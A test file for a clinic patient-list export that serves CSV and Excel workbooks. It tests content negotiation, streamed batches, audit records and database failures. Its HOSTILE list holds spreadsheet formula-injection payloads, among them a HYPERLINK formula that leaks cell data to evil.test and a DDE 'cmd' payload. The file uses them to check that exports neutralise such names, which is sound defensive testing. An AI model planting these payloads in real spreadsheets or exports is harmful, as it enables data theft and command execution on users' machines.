import { createExecutionContext, waitOnExecutionContext } from "cloudflare:test";
import { env } from "cloudflare:workers";
import { parse } from "csv-parse/sync";
import { afterEach, beforeAll, describe, expect, test, vi } from "vitest";
import { expectToMatchDescription } from "../../../../test/description.ts";
import {
  type Answer,
  type Caller,
  type GivenClinic,
  givenClinic,
  givenPatient,
  givenSite,
  givenTag,
  rows,
  send,
  UNKNOWN_ID,
  auditRows,
} from "../../../../test/harness.ts";
import { givenSummary, statsWith } from "../../../../test/summaries.ts";
import { readWorkbook } from "../../../../test/workbook.ts";
import { app } from "../../../entry/app.ts";
import { readableTable } from "./readable-table.ts";
import { TABLE_COLUMNS } from "./table.ts";

const CSV = { accept: "text/csv" };
const XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
const HOSTILE = [
  '=HYPERLINK("http://evil.test/?"&A1,"x")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1)",
  "\t=1",
  "\r=1",
  "  =1",
  "＝1+1",
  'Quo"ted, "name"',
  "Two\r\nlines",
  "x;=1+1",
  "Ána Łuñez 李 𝒳",
  "'already",
];

let clinic: GivenClinic;
const table = (query = "", caller: Caller = clinic.member, headers: Record<string, string> = CSV) =>
  caller.get(`${clinic.path}/patients${query}`, headers);

/** The lines of an answer by their columns, as another program reads them. */
const linesOf = (answer: Answer): Record<string, string>[] =>
  parse(answer.text, { columns: true, relax_column_count: false, bom: true });

beforeAll(async () => {
  clinic = await givenClinic({ country: "CA" });
  await rows("DELETE FROM patients WHERE clinic_id = ?", clinic.clinicId);
  const tag = await givenTag(clinic, "+Tag");
  const other = await givenTag(clinic, "Pump");
  const site = await givenSite(clinic, "East, wing");
  const first = await givenPatient(clinic, {
    fullName: "Ada",
    birthDate: "1987-02-03",
    mrn: "-17",
    email: "ada@table.test",
    tags: [tag.id, other.id],
    sites: [site],
    diagnosisType: "type1",
  });
  await givenSummary(clinic.clinicId, first.id, {
    cgmStats: await statsWith(
      "cgm",
      { timeInTargetPercent: 0.625, timeInTargetPercentDelta: -0.125, averageGlucoseMmol: 8.25 },
      { dates: { lastData: "2026-05-01T10:00:00.000Z" } },
    ),
    bgmStats: await statsWith("bgm", { totalRecords: 12 }, { period: "7d" }),
  });
  await rows("UPDATE patients SET last_reviewed_at = 1000 WHERE user_id = ?", first.id);
  // As they were stored before names were checked.
  for (const [i, fullName] of HOSTILE.entries()) {
    const { id } = await givenPatient(clinic, { mrn: `M${i}` });
    await rows("UPDATE patients SET full_name = ? WHERE user_id = ? RETURNING key", fullName, id);
  }
});

afterEach(() => void vi.restoreAllMocks());

describe("ListPatients with Accept: text/csv", () => {
  test("200 a file to be saved, under a name that says nothing of anybody", async () => {
    const answer = await table();
    expect(answer.status).toBe(200);
    expect(answer.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(answer.headers.get("content-disposition")).toMatch(/^attachment; filename="patients-\d{4}-\d\d-\d\d\.csv"$/);
    expect(answer.headers.get("cache-control")).toBe("no-store");
    expect(answer.headers.get("vary")?.toLowerCase()).toContain("accept");
  });

  test("begins with a byte order mark and the names of the columns", async () => {
    const response = await send("GET", `${clinic.path}/patients`, { token: clinic.member.token, headers: CSV });
    expect(response.text.startsWith("\ufeff") ? response.text.slice(1) : response.text).toMatch(
      /^id,fullName,birthDate,mrn,/,
    );
    const raw = await bytesOf(`${clinic.path}/patients`);
    expect(Array.from(raw.subarray(0, 3))).toEqual([0xef, 0xbb, 0xbf]);
    expect(Object.keys(linesOf(response)[0]!)).toEqual(TABLE_COLUMNS);
  });

  test("shows a patient with names of tags and sites, and the statistics of the asked period", async () => {
    const [ada] = linesOf(await table("?search=ada@table"));
    expect(ada).toMatchObject({
      fullName: "Ada",
      birthDate: "1987-02-03",
      mrn: '="-17"',
      email: "ada@table.test",
      tags: "'+Tag; Pump",
      sites: "East, wing",
      diagnosisType: "type1",
      lastReviewed: "1970-01-01T00:00:01.000Z",
      "cgm.lastData": "2026-05-01T10:00:00.000Z",
      "bgm.lastData": "",
      period: "14d",
      "cgm.timeInTargetPercent": "0.625",
      "cgm.averageGlucoseMmol": "8.25",
      "cgm.glucoseManagementIndicator": "",
      "bgm.totalRecords": "",
    });
    const [week] = linesOf(await table("?search=ada@table&period=7d"));
    expect(week).toMatchObject({ period: "7d", "cgm.timeInTargetPercent": "", "bgm.totalRecords": "12" });
  });

  test.each(["text/csv", "text/csv; headings=readable"])("has no birth date that is not known: %s", async (accept) => {
    const other = await givenClinic();
    const { id } = await givenPatient(other, { fullName: "Uma", birthDate: "0001-01-01" });
    const { text } = await send("GET", `${other.path}/patients?search=uma`, {
      token: other.member.token,
      headers: { accept },
    });
    expect(text).toContain(`${id},Uma,,`);
    // As it was stored once.
    await rows("UPDATE patients SET birth_date = '0001-01-01' WHERE user_id = ? RETURNING 1", id);
    const again = await send("GET", `${other.path}/patients?search=uma`, {
      token: other.member.token,
      headers: { accept },
    });
    expect(again.text).toContain(`${id},Uma,,`);
  });

  test("leaves numbers numbers, negative ones too", async () => {
    const [ada] = linesOf(await table("?search=ada@table"));
    expect(ada!["cgm.timeInTargetPercentDelta"]).toBe("-0.125");
  });

  test("holds every patient once, however hostile the name, and no cell that a spreadsheet runs", async () => {
    const lines = linesOf(await table());
    const byMrn = new Map(lines.map((line) => [line.mrn, line.fullName]));
    expect(lines).toHaveLength(HOSTILE.length + 1);
    for (const [i, name] of HOSTILE.entries()) {
      const shown = byMrn.get(`M${i}`)!;
      expect(shown.replaceAll("'", "")).toBe(name.replaceAll("'", ""));
      expect(shown).not.toMatch(/^[\s\ufeff]*[=+\-@＝]|^[\t\r]|[;\t\r\n]\s*[=+\-@＝]/u);
    }
    expect(byMrn.get("M11")).toBe("Ána Łuñez 李 𝒳");
    expect(byMrn.get("M12")).toBe("'already");
    const numbers = new Set(TABLE_COLUMNS.slice(TABLE_COLUMNS.indexOf("period") + 1));
    for (const line of lines)
      for (const [name, cell] of Object.entries(line))
        if (!numbers.has(name)) expect(cell).not.toMatch(/^(?!="[^"]*"$|=\("[^"]*"\)$)[=+\-@＝]/u);
  });

  test("keeps identifiers and names that a spreadsheet would show otherwise", async () => {
    const mrns = ["0017", "1E5", "1-2", "MAR1", "TRUE", "123456789012", "A-17", "17"];
    const given = [];
    for (const mrn of mrns) given.push(await givenPatient(clinic, { fullName: mrn, mrn, birthDate: "1987-02-03" }));
    await rows("UPDATE patients SET user_id = '1234567e10' WHERE user_id = ? RETURNING key", given[0]!.id);
    const lines = linesOf(await table("?search=1987-02-03")).filter(({ fullName }) => fullName !== "Ada");
    for (const { id } of given) await rows("DELETE FROM patients WHERE user_id IN (?, '1234567e10')", id);
    const expected = mrns.map((mrn) => (["A-17", "17"].includes(mrn) ? mrn : `="${mrn}"`));
    expect(new Set(lines.map(({ mrn }) => mrn))).toEqual(new Set(expected));
    for (const { mrn, fullName, birthDate } of lines) expect([fullName, birthDate]).toEqual([mrn, "1987-02-03"]);
    expect(lines.find(({ mrn }) => mrn === '="0017"')!.id).toBe('=("1234567e10")');
  });

  test("shows texts from before names were checked without their controls, and runs none of them", async () => {
    const old = await givenPatient(clinic, { fullName: "Old", mrn: "OLD" });
    const hidden = "char(0) || '=1+1;' || char(0) || '=2'";
    await rows(
      `UPDATE patients SET full_name = ${hidden}, mrn = ${hidden}, email = ${hidden} WHERE user_id = ? RETURNING key`,
      old.id,
    );
    const answer = await table();
    await rows("DELETE FROM patients WHERE user_id = ?", old.id);
    expect(answer.text).not.toContain("\0");
    const [line] = linesOf(answer).filter(({ id }) => id === old.id);
    expect([line!.fullName, line!.mrn, line!.email]).toEqual(Array(3).fill("'=1+1;'=2"));
  });

  test.each(["", "?sort=-fullName&sortType=cgm", "?sort=%2BbirthDate&sortType=bgm", "?cgm.timeInTargetPercent=%3E0.5"])(
    "has the patients of the JSON list in its order, whatever offset and limit: %s",
    async (query) => {
      const json = await table(`${query || "?"}&limit=1000`, clinic.member, {});
      const lines = linesOf(await table(`${query || "?"}&offset=2&limit=1`));
      expect(lines.map(({ id }) => id)).toEqual(json.body.data.map(({ id }: { id: string }) => id));
    },
  );

  test("200 the header alone where nobody matches, and for a clinic that is none", async () => {
    expect(linesOf(await table("?search=nobody-at-all"))).toEqual([]);
    const none = await clinic.service.get(`/v1/clinics/${UNKNOWN_ID}/patients`, CSV);
    expect([none.status, none.text.trim().split("\r\n")]).toEqual([200, [expect.stringContaining("id,fullName")]]);
  });

  test.each([
    ["an outsider", () => clinic.outsider, "", 403],
    ["a clinician who only prescribes", () => clinic.prescriber, "", 403],
    ["a page that can't be", () => clinic.member, "?limit=0", 400],
    ["a sort without its type", () => clinic.member, "?sort=-fullName", 400],
    ["a filter that is none", () => clinic.member, "?cgm.max=1", 400],
  ])("%s gets the usual refusal as JSON, and no file", async (_, caller, query, status) => {
    const answer = await table(query, caller());
    expect([answer.status, answer.body.code]).toEqual([status, status]);
    expect(answer.headers.get("content-disposition")).toBeNull();
  });

  test("every patient in the file is on record", async () => {
    const requestId = `csv-audit-${Date.now()}`;
    const lines = linesOf(await table("", clinic.member, { ...CSV, "x-request-id": requestId }));
    const having = { request_id: requestId, outcome: "read", operation: "ListPatients", clinic_id: clinic.clinicId };
    await vi.waitFor(async () => expect(await auditRows(having)).toHaveLength(lines.length), {
      timeout: 10_000,
      interval: 100,
    });
  });
});

describe("ListPatients with Accept: text/csv; headings=readable", () => {
  const READABLE = { accept: "text/csv; headings=readable" };
  const adaIn = async (units: string | null) => {
    await rows("UPDATE clinics SET preferred_bg_units = ? WHERE id = ?", units, clinic.clinicId);
    const [ada] = linesOf(await table("?search=ada@table", clinic.member, READABLE));
    return ada!;
  };

  test("200 the same columns under words, with percents, times to the minute and rounded numbers", async () => {
    const answer = await table("?search=ada@table", clinic.member, READABLE);
    expect([answer.status, answer.headers.get("content-type")]).toEqual([200, "text/csv; charset=utf-8"]);
    expect(answer.headers.get("content-disposition")).toMatch(/^attachment; filename="patients-\d{4}-\d\d-\d\d\.csv"$/);
    const [ada] = linesOf(answer);
    expect(Object.keys(ada!)).toHaveLength(TABLE_COLUMNS.length);
    expect(ada).toMatchObject({
      Name: "Ada",
      "Date of birth": "1987-02-03",
      MRN: '="-17"',
      Tags: "'+Tag; Pump",
      "Last reviewed (UTC)": "1970-01-01 00:00",
      "Last CGM data (UTC)": "2026-05-01 10:00",
      "Last BGM data (UTC)": "",
      Period: "14d",
      "CGM time in target (%)": "62.5",
      "CGM time in target, change (percentage points)": "-12.5",
      "BGM readings": "",
    });
  });

  test("has glucose in the clinic's own unit, and says which", async () => {
    expect(await adaIn("mg/dL")).toMatchObject({
      "CGM average glucose (mg/dL)": "149",
      "BGM average glucose (mg/dL)": "",
    });
    expect(await adaIn("mmol/L")).toMatchObject({ "CGM average glucose (mmol/L)": "8.3" });
    expect(await adaIn(null)).toMatchObject({ "CGM average glucose (mg/dL)": "149" });
  });

  test("leaves the other form as it is, whatever the clinic's unit", async () => {
    await rows("UPDATE clinics SET preferred_bg_units = 'mg/dL' WHERE id = ?", clinic.clinicId);
    const [ada] = linesOf(await table("?search=ada@table"));
    expect(ada!["cgm.averageGlucoseMmol"]).toBe("8.25");
  });

  test.each([
    ["text/csv", "id"],
    ["text/csv;headings=fields", "id"],
    ["text/csv; charset=utf-8", "id"],
    ["text/*", "id"],
    ['TEXT/CSV;Headings="Readable"', "Patient id"],
    ["text/csv; charset=utf-8; headings=readable", "Patient id"],
    ["text/csv;headings=readable, text/csv;q=0.9", "Patient id"],
    ["text/csv;headings=readable;q=0.8, text/csv;q=0.9", "id"],
    ["text/csv;headings=readable, */*", "Patient id"],
  ])("for %s the first heading is %s", async (accept, heading) => {
    const [line] = linesOf(await table("?search=ada@table", clinic.member, { accept }));
    expect(Object.keys(line!)[0]).toBe(heading);
  });

  test("200 the header alone for a clinic that is none", async () => {
    const none = await clinic.service.get(`/v1/clinics/${UNKNOWN_ID}/patients`, READABLE);
    expect([none.status, none.text.trim().split("\r\n")]).toEqual([200, [expect.stringContaining("Patient id,Name")]]);
  });
});

describe("ListPatients with Accept of a workbook", () => {
  const workbook = (query = "", caller: Caller = clinic.member) => table(query, caller, { accept: XLSX });
  const rowsIn = (answer: Answer) => readWorkbook(answer.bytes).rows("Patients");

  test("200 a file to be saved, under a name that says nothing of anybody", async () => {
    const answer = await workbook();
    expect([answer.status, answer.headers.get("content-type")]).toEqual([200, XLSX]);
    expect(answer.headers.get("content-disposition")).toMatch(
      /^attachment; filename="patients-\d{4}-\d\d-\d\d\.xlsx"$/,
    );
    expect(answer.headers.get("cache-control")).toBe("no-store");
  });

  test("has the table for people: texts as texts, numbers as numbers, dates as texts", async () => {
    await rows("UPDATE clinics SET preferred_bg_units = 'mmol/L' WHERE id = ?", clinic.clinicId);
    const [headings, ada, ...others] = rowsIn(await workbook("?search=ada@table"));
    expect(headings).toEqual(readableTable("mmol/L").headings);
    expect(others).toEqual([]);
    const cells = Object.fromEntries(headings!.map((heading, i) => [heading, ada![i] ?? ""]));
    expect(cells).toMatchObject({
      Name: "Ada",
      "Date of birth": "1987-02-03",
      MRN: "-17",
      Tags: "+Tag; Pump",
      "Last CGM data (UTC)": "2026-05-01 10:00",
      "CGM time in target (%)": 62.5,
      "CGM time in target, change (percentage points)": -12.5,
      "CGM average glucose (mmol/L)": 8.3,
      "BGM readings": "",
    });
  });

  test("has no sensor worn for more than all of the time, which readings of an overlap come to", () => {
    const { headings, shown } = readableTable("mmol/L");
    const use = TABLE_COLUMNS.indexOf("cgm.timeCGMUsePercent");
    const shownAs = (value: number) => shown(TABLE_COLUMNS.map((_, i) => (i === use ? value : null)))[use];
    expect([headings[use], shownAs(1.0417), shownAs(1), shownAs(0.98765)]).toEqual(["CGM use (%)", 100, 100, 98.8]);
  });

  test("holds every patient once in the asked order, under the name that is stored, and no formula", async () => {
    const query = "?sort=-fullName&sortType=cgm";
    const book = readWorkbook((await workbook(query)).bytes);
    const json = await table(`${query}&limit=1000`, clinic.member, {});
    const shown = (name: string) => name.replaceAll(/\r\n?/g, "\n");
    expect(book.extras).toEqual([]);
    expect(
      book
        .rows("Patients")
        .slice(1)
        .map(([id, name]) => [id, name]),
    ).toEqual(json.body.data.map(({ id, fullName }: any) => [id, shown(fullName)]));
  });

  test("403 as JSON for a clinician who only prescribes", async () => {
    const answer = await workbook("", clinic.prescriber);
    expect([answer.status, answer.body.code]).toEqual([403, 403]);
  });
});

describe("the media type of a list of patients", () => {
  test.each([
    [undefined, "application/json"],
    ["*/*", "application/json"],
    ["application/json", "application/json"],
    ["text/csv", "text/csv"],
    ["TEXT/CSV", "text/csv"],
    ["text/*", "text/csv"],
    ["text/csv; charset=utf-8", "text/csv"],
    ["application/json, text/csv", "application/json"],
    ["text/csv, application/json", "application/json"],
    ["text/csv, */*", "text/csv"],
    ["text/csv, application/json;q=0.9", "text/csv"],
    ["text/csv;q=0.5, application/json", "application/json"],
    ["text/csv;q=0.1, */*", "application/json"],
    ["text/csv;q=0, */*", "application/json"],
    ["text/csv;q=0", "application/json"],
    ["application/json;q=0, */*;q=0.1", "text/csv"],
    [XLSX, XLSX],
    [`${XLSX}, application/json;q=0.9`, XLSX],
    [`${XLSX};q=0.5, text/csv`, "text/csv"],
    [`application/json, ${XLSX}`, "application/json"],
    ["application/*", "application/json"],
    ["application/json;q=0, text/*;q=0, */*", XLSX],
    ["text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", "application/json"],
    ["text/html", "application/json"],
    ["nonsense;;q=x,,", "application/json"],
  ])("for %s is %s", async (accept, type) => {
    const answer = await table("?limit=1", clinic.member, accept === undefined ? {} : { accept });
    expect([answer.status, answer.headers.get("content-type")?.split(";")[0]]).toEqual([200, type]);
  });
});

describe("a long table", () => {
  const PATIENTS = 2500;
  let large: GivenClinic;
  beforeAll(async () => {
    large = await givenClinic({ country: "CA" });
    await rows("DELETE FROM patients WHERE clinic_id = ?", large.clinicId);
    await rows(
      `WITH RECURSIVE n (i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < ${PATIENTS})
       INSERT INTO patients (clinic_id, user_id, full_name, name_key, mrn_unique, search_rest, tags, sites, reviews, is_migrated, is_demo,
         counts_to_plan, cgm_has_other_periods, bgm_has_other_periods, version, created_at, updated_at)
       SELECT ?, printf('%010x', 800000000000 + i), 'P ' || i, printf('p %05d', i), 0, '', '[]', '[]', '[]', 0, 0, 1, 0, 0, 1, 1, 1 FROM n`,
      large.clinicId,
    );
  });

  /** The table served with a database that does something else before each batch: the finding is 0, its parts 1 to 3. */
  async function servedWith(
    before: (part: number) => Promise<void> | void,
    replaced: Record<string, unknown> = {},
    headers: Record<string, string> = CSV,
  ) {
    let parts = 0;
    let isPart = false;
    let isFinding = false;
    const session = env.DB.withSession("first-primary");
    const DB = {
      withSession: () => ({
        prepare(text: string) {
          isPart ||= text.includes("AS wanted");
          isFinding ||= text.includes("json_group_array");
          return session.prepare(text);
        },
        getBookmark: () => session.getBookmark(),
        async batch(statements: D1PreparedStatement[]) {
          const part = isPart ? ++parts : isFinding ? 0 : undefined;
          isPart = isFinding = false;
          if (part !== undefined) await before(part);
          return session.batch(statements);
        },
      }),
    };
    const ctx = createExecutionContext();
    const request = new Request(`http://clinics.test${large.path}/patients`, {
      headers: { ...headers, "x-tidepool-session-token": large.member.token },
    });
    const response = await app.fetch(request, { ...env, ...replaced, DB }, ctx);
    return { response, settled: () => waitOnExecutionContext(ctx), parts: () => parts };
  }

  test("comes in parts of a thousand, each read from the database when it is asked for", async () => {
    const { response, settled, parts } = await servedWith(() => {});
    const reader = response.body!.getReader();
    const decoder = new TextDecoder();
    expect(parts()).toBe(1);
    let text = decoder.decode((await reader.read()).value, { stream: true });
    expect([parts(), text.split("\r\n").length - 2]).toEqual([1, 1000]);
    text += decoder.decode((await reader.read()).value, { stream: true });
    expect([parts(), text.split("\r\n").length - 2]).toEqual([2, 2000]);
    for (let next = await reader.read(); !next.done; next = await reader.read()) text += decoder.decode(next.value);
    await settled();
    const lines = parse<Record<string, string>>(text, { columns: true, bom: true });
    expect(lines.map(({ fullName }) => fullName)).toEqual(Array.from({ length: PATIENTS }, (_, i) => `P ${i + 1}`));
    expect(parts()).toBe(3);
  });

  test("comes in such parts as a workbook, too, and breaks off when the database fails", async () => {
    const { response, settled, parts } = await servedWith(() => {}, {}, { accept: XLSX });
    const reader = response.body!.getReader();
    const chunks: Uint8Array<ArrayBuffer>[] = [];
    const asked: number[] = [parts()];
    for (let next = await reader.read(); !next.done; next = await reader.read()) {
      chunks.push(next.value);
      asked.push(parts());
    }
    await settled();
    expect([asked[0], asked[1], asked.at(-1)]).toEqual([1, 1, 3]);
    for (const [i, count] of asked.slice(1).entries()) expect(count - asked[i]!).toBeLessThanOrEqual(1);
    const book = readWorkbook(new Uint8Array(await new Blob(chunks).arrayBuffer()));
    const names = book.rows("Patients").map(([, name]) => name);
    expect(names).toEqual(["Name", ...Array.from({ length: PATIENTS }, (_, i) => `P ${i + 1}`)]);
    const broken = await servedWith(
      (part) => {
        if (part === 2) throw new Error("D1_ERROR: Network connection lost.");
      },
      {},
      { accept: XLSX },
    );
    await expect(broken.response.arrayBuffer()).rejects.toThrow("the rest could not be made");
    await broken.settled();
  });

  test("503 as JSON when the database fails before anything was sent", async () => {
    for (const failing of [0, 1]) {
      const { response, settled } = await servedWith((part) => {
        if (part === failing) throw new Error("D1_ERROR: Network connection lost.");
      });
      expect([response.status, response.headers.get("content-disposition")]).toEqual([503, null]);
      expect(await response.json()).toMatchObject({ code: 503 });
      await settled();
    }
  });

  test("breaks off when the database fails later: whoever reads is told, and the log without a name", async () => {
    const logged = vi.spyOn(console, "log");
    const { response, settled } = await servedWith((part) => {
      if (part === 2) throw new Error("D1_ERROR: Network connection lost. P 1001");
    });
    expect(response.status).toBe(200);
    await expect(response.text()).rejects.toThrow("the rest could not be made");
    await settled();
    const broken = logged.mock.calls.map(([line]) => String(line)).filter((line) => line.includes("stream broken"));
    expect(broken).toHaveLength(1);
    expect(JSON.parse(broken[0]!)).toMatchObject({
      level: "error",
      operation: "ListPatients",
      clinicId: large.clinicId,
    });
    expect(broken[0]).not.toContain("P 1001");
  });

  test("says what each statistic is when its part is read, of all patients and of a few", async () => {
    const byName = "(SELECT key FROM patients WHERE clinic_id = ? AND full_name = ?)";
    const periods = "INSERT INTO cgm_periods (patient_key, period, flags, time_in_target_percent, total_records)";
    await rows(
      `${periods} SELECT patients.key, period.value, 0, (patients.key % (90 + length(period.value))) / 97.0, 7
       FROM patients CROSS JOIN json_each('["7d", "14d"]') AS period WHERE clinic_id = ? AND patients.key % 3 > 0 RETURNING 1`,
      large.clinicId,
    );
    await rows("UPDATE patients SET version = version + 1 WHERE clinic_id = ? RETURNING 1", large.clinicId);
    const change = async (name: string) => {
      await rows(`DELETE FROM cgm_periods WHERE patient_key = ${byName} RETURNING 1`, large.clinicId, name);
      await rows(`${periods} SELECT key, '14d', 0, 0.125, 5 FROM ${byName} RETURNING 1`, large.clinicId, name);
      await rows(
        "UPDATE patients SET version = version + 1 WHERE clinic_id = ? AND full_name = ? RETURNING 1",
        large.clinicId,
        name,
      );
    };
    const stored = async (period: string) => {
      const found = await rows<{ name: string; value: number | null }>(
        `SELECT full_name AS name, time_in_target_percent AS value FROM patients
         LEFT JOIN cgm_periods ON patient_key = key AND period = ? WHERE clinic_id = ?`,
        period,
        large.clinicId,
      );
      return new Map(found.map(({ name, value }) => [name, value === null ? "" : String(value)]));
    };
    const shownIn = (text: string) =>
      new Map(
        parse<Record<string, string>>(text, { columns: true, bom: true }).map((line) => [
          line["fullName"]!,
          line["cgm.timeInTargetPercent"]!,
        ]),
      );
    const asAtFirst = await stored("14d");
    const { response, settled } = await servedWith(async (part) => {
      if (part === 2) for (const name of ["P 500", "P 1500", "P 2400"]) await change(name);
      if (part === 3) await change("P 2401");
    });
    const shown = shownIn(await response.text());
    await settled();
    const now = await stored("14d");
    expect(shown).toEqual(new Map([...now, ["P 500", asAtFirst.get("P 500")!]]));
    expect([shown.get("P 2400"), shown.get("P 2401")]).toEqual(["0.125", "0.125"]);
    // Too few of them to read the statistics of all patients for.
    const few = await large.member.get(`${large.path}/patients?search=P%200240&period=7d`, CSV);
    const ofFew = [...(await stored("7d"))].filter(([name]) => /^P 240\d$/.test(name));
    expect(ofFew.map(([, value]) => value)).toContain("");
    expect(shownIn(few.text)).toEqual(new Map(ofFew));
    await rows(
      "DELETE FROM cgm_periods WHERE patient_key IN (SELECT key FROM patients WHERE clinic_id = ?) RETURNING 1",
      large.clinicId,
    );
  });

  test("leaves out who leaves the clinic meanwhile, and audits only who was read", async () => {
    const sent: { patientIds: string[] }[] = [];
    const AUDIT_QUEUE = {
      async sendBatch(messages: { body: { patientIds: string[] } }[]) {
        sent.push(...messages.map(({ body }) => body));
      },
    };
    const { response, settled } = await servedWith(() => {}, { AUDIT_QUEUE });
    const reader = response.body!.getReader();
    const decoder = new TextDecoder();
    let text = decoder.decode((await reader.read()).value, { stream: true });
    await rows("DELETE FROM patients WHERE clinic_id = ? AND full_name = 'P 1500'", large.clinicId);
    for (let next = await reader.read(); !next.done; next = await reader.read()) {
      text += decoder.decode(next.value, { stream: true });
    }
    const lines = parse<Record<string, string>>(text, { columns: true, bom: true });
    await settled();
    expect(lines).toHaveLength(PATIENTS - 1);
    expect(sent.map(({ patientIds }) => patientIds.length)).toEqual([1000, 999, 500]);
    expect(new Set(sent.flatMap(({ patientIds }) => patientIds))).toEqual(new Set(lines.map(({ id }) => id)));
  });
});

async function bytesOf(path: string): Promise<Uint8Array> {
  const ctx = createExecutionContext();
  const request = new Request(`http://clinics.test${path}`, {
    headers: { ...CSV, "x-tidepool-session-token": clinic.member.token },
  });
  const response = await app.fetch(request, env, ctx);
  const bytes = new Uint8Array(await response.arrayBuffer());
  await waitOnExecutionContext(ctx);
  return bytes;
}

test("docs/patient-table.md explains every column, in their order", async () => {
  const [text] = Object.values(
    import.meta.glob<string>(["../../../../docs/patient-table.md"], { query: "?raw", import: "default", eager: true }),
  );
  const explained = [...text!.matchAll(/^\| `([\w.]+)` \|/gm)].map(([, name]) => name);
  expect(explained).toEqual(TABLE_COLUMNS);
  const headings = [...text!.matchAll(/^\| `[\w.]+` \| ([^|]*) \|/gm)].map(([, heading]) => heading);
  expect(headings).toEqual(readableTable("mg/dL").headings.map((heading) => heading.replace("mg/dL", "unit")));
  expect(() =>
    expectToMatchDescription("GET", `/v1/clinics/${UNKNOWN_ID}/patients`, {
      status: 200,
      body: undefined,
      text: "x",
      headers: new Headers({ "content-type": "text/plain" }),
    }),
  ).toThrow("does not document text/plain");
});
